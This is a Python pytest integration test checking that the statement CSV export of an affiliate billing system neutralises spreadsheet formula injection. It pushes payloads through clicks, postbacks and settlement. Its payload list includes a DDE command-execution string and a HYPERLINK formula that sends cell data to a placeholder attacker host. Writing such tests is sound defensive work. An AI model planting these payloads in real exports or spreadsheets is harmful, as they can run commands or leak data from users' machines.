"""CSV injection end to end: formula payloads in every text a merchant or partner sets (merchant, partner
and offer names, sub ids, order ids, action names) travel through real clicks, postbacks, ingest and
settle into the statement export; no CSV cell a spreadsheet would run (tests/unit/test_exports.py
covers the pure renderer with a made-up statement, this covers what the database really holds)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal, InvalidOperation

import asyncpg
import orjson
import pytest

from billing import statements
from billing.settle import settle
from kernel.settings import Settings
from tests.factories import programme
from tests.helpers import click_id_of, drain, postback, tracker_client

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_statement_csv_has_no_formula_cell(settings: Settings, db: asyncpg.Connection, payload: str) -> None:
    prog = await programme(db, fee_plan={"cps_percent": "10", "cpa": {payload: 250, "signup": 250}})
    await db.execute("UPDATE offers SET hold_days = 0, name = $1 WHERE id = $2", payload, prog.offer_id)
    await db.execute("UPDATE merchants SET name = $1 WHERE id = $2", payload, prog.merchant_id)
    await db.execute("UPDATE partners SET name = $1 WHERE id = $2", payload, prog.partner_id)
    secret = await db.fetchval("SELECT postback_secret FROM offers WHERE id = $1", prog.offer_id)
    async with tracker_client(settings) as (_app, client):
        await client.get("/readyz")
        click = await client.get(
            f"/c/{prog.code}",
            params={"sub1": payload, "sub2": payload, "source": payload},
            headers={"user-agent": "Mozilla/5.0"},
        )
        base = {"offer_id": prog.offer_id, "click_id": click_id_of(click)}
        refused: list[str] = []

        async def convert(fields: dict[str, str], plain: dict[str, str]) -> int:
            """Sent with the payload; a refusal (the field's rules forbid it) must say why, then plainly."""
            response = await postback(client, secret, {**base, **fields})
            if response.status_code == 400:
                refused.append(response.json()["error"])
                response = await postback(client, secret, {**base, **plain})
            return response.status_code

        signup = await convert(
            {"action": payload, "order_id": payload + " lead"}, {"action": "signup", "order_id": "lead-1"}
        )
        sale = await convert({"order_id": payload, "amount": "129.99"}, {"order_id": "order-1", "amount": "129.99"})
    assert (click.status_code, signup, sale) == (302, 200, 200)
    print(f"\n{payload!r}: refused at the tracker: {refused or 'nothing'}")
    await drain(settings, 3, db)
    stored = orjson.loads(await db.fetchval("SELECT payload FROM events WHERE type = 'click'"))
    assert stored["sub1"] == payload  # the payload really is in what billing holds

    now = dt.datetime.now(dt.UTC) + dt.timedelta(seconds=1)
    period = f"{now:%Y-%m}"
    _start, end = statements.month_bounds(period)
    await settle(db, period, now=now, close=False)
    await settle(db, period, now=dt.datetime.combine(end, dt.time(1), dt.UTC))
    statement_id = await db.fetchval("SELECT id FROM statements")
    data = await statements.export(db, statement_id, "csv")

    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert sum(payload.strip() in cell for cell in cells) >= 3, cells  # merchant, partner, offer (order ids)
    for cell in cells:
        if _is_number(cell):
            continue  # amounts stay numbers (a negative amount too)
        assert not cell.startswith(FORMULA_STARTS), repr(cell)
